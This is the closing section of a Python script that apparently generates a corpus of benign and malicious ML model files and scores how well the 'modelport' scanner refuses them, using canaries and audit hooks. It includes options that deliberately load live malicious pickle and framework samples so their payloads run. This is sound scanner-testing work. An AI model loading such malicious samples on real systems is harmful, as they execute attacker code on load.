            f["refused"] += o.exits == o.expected
        else:
            f["benign"] += 1
            f["accepted"] += o.exits == o.expected
        if o.sample.kind == "malicious":
            f["executed"] += bool(o.executed)
        else:  # a benign model loaded by its framework: the framework's own events (platform's `uname -p`, TF's exec)
            f["benign_events"] = f.get("benign_events", 0) + bool(o.executed)
    return {"families": families, "outcomes": outcomes, "late_canaries": sorted(late - seen),
            "inotify": inotify.available, "seconds": round(time.perf_counter() - t0, 1)}


def _table(fig: dict[str, Any]) -> str:
    rows = [f"{'family':<22} {'malicious':>9} {'refused':>8} {'executed':>8} {'benign':>7} {'accepted':>8}"]
    tot = dict.fromkeys(("malicious", "refused", "executed", "benign", "accepted"), 0)
    for name, f in fig["families"].items():
        rows.append(f"{name:<22} {f['malicious']:>9} {f['refused']:>8} {f['executed']:>8} {f['benign']:>7} "
                    f"{f['accepted']:>8}")
        for k in tot:
            tot[k] += f[k]
    rows.append(f"{'total':<22} {tot['malicious']:>9} {tot['refused']:>8} {tot['executed']:>8} {tot['benign']:>7} "
                f"{tot['accepted']:>8}")
    pct = lambda a, b: f"{100 * a / b:.1f}%" if b else "-"  # noqa: E731
    noisy = sum(f.get("benign_events", 0) for f in fig["families"].values())
    if noisy:
        rows.append(f"({noisy} benign samples raised audit events while their framework loaded them: "
                    "the framework's own code, listed as NOTE lines above, not counted as executed)")
    rows.append(f"malicious refused {pct(tot['refused'], tot['malicious'])}, executed {tot['executed']} "
                f"(+{len(fig['late_canaries'])} late canaries), benign accepted {pct(tot['accepted'], tot['benign'])}; "
                f"watched by a canary directory, {'inotify on the secret' if fig['inotify'] else 'no inotify'} and "
                f"sys.addaudithook; {fig['seconds']} s")
    return "\n".join(rows)


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("out", help="corpus directory")
    ap.add_argument("--canary-dir", help="where payloads create their canaries (default OUT/_canaries)")
    ap.add_argument("--families", help=f"comma-separated subset of: {', '.join(FAMILIES)}")
    ap.add_argument("--prove-live", action="store_true",
                    help="load the corpus's live malicious pickle samples unsafely and report their canaries")
    ap.add_argument("--baseline", action="store_true",
                    help="load the malicious ONNX/Keras/SavedModel samples with the frameworks alone (this RUNS "
                         "them: their payloads only touch the corpus's secret)")
    ap.add_argument("--evaluate", action="store_true",
                    help="run every sample of an existing corpus through the modelport CLI (scan, convert, inspect) "
                         "and print the table")
    ap.add_argument("--json", action="store_true", help="with --evaluate: every sample's outcome as JSON")
    args = ap.parse_args(argv)
    if args.families:
        unknown = [n for n in args.families.split(",") if n not in FAMILIES]
        if unknown:
            ap.error(f"unknown families {unknown}; known: {', '.join(FAMILIES)}")
    if args.evaluate:
        fig = evaluate_cli(args.out)
        if args.json:
            print(json.dumps([{**dataclasses.asdict(o.sample), "exits": o.exits, "expected": o.expected,
                               "executed": o.executed, "message": o.message} for o in fig["outcomes"]], indent=1))
        for o in fig["outcomes"]:
            if not o.ok:
                print(f"{'MISS' if o.sample.kind == 'malicious' or o.exits != o.expected else 'NOTE'} {o.sample.kind} {o.sample.path}: exits {o.exits} (want {o.expected})"
                      f"{', EXECUTED ' + '; '.join(o.executed) if o.executed else ''}: {o.message[:200]}")
        print(_table(fig))
        bad = [o for o in fig["outcomes"] if o.sample.kind == "malicious" and not o.ok]  # refused and ran nothing
        good = [o for o in fig["outcomes"] if o.sample.kind == "benign"]
        executed = any(o.executed for o in fig["outcomes"] if o.sample.kind == "malicious") or fig["late_canaries"]
        accepted = sum(o.exits == o.expected for o in good)
        return 0 if not bad and not executed and accepted >= 0.99 * len(good) else 1
    if args.prove_live:
        results = prove_live(args.out)
        for path, ran in results.items():
            print(f"{'ran    ' if ran else 'DID NOT'} {path}")
        print(f"{sum(results.values())} of {len(results)} live malicious samples ran their payload when loaded unsafely")
        return 0 if all(results.values()) else 1
    if args.baseline:
        for fam, f in baseline(args.out).items():
            print(f"without modelport, {fam}: {f['loaded']}/{f['malicious']} malicious loaded, canary read "
                  f"{f['canary_opened']}x, written {f['canary_written']}x: {'; '.join(f['which'])}")
        return 0
    t0 = time.perf_counter()
    samples = write_corpus(args.out, args.canary_dir, args.families.split(",") if args.families else None)
    bad = sum(s.kind == "malicious" for s in samples)
    print(f"{len(samples)} samples in {args.out}: {bad} malicious ({sum(s.live for s in samples)} live), "
          f"{len(samples) - bad} benign, in {time.perf_counter() - t0:.0f} s")
    return 0


if __name__ == "__main__":
    sys.exit(main())
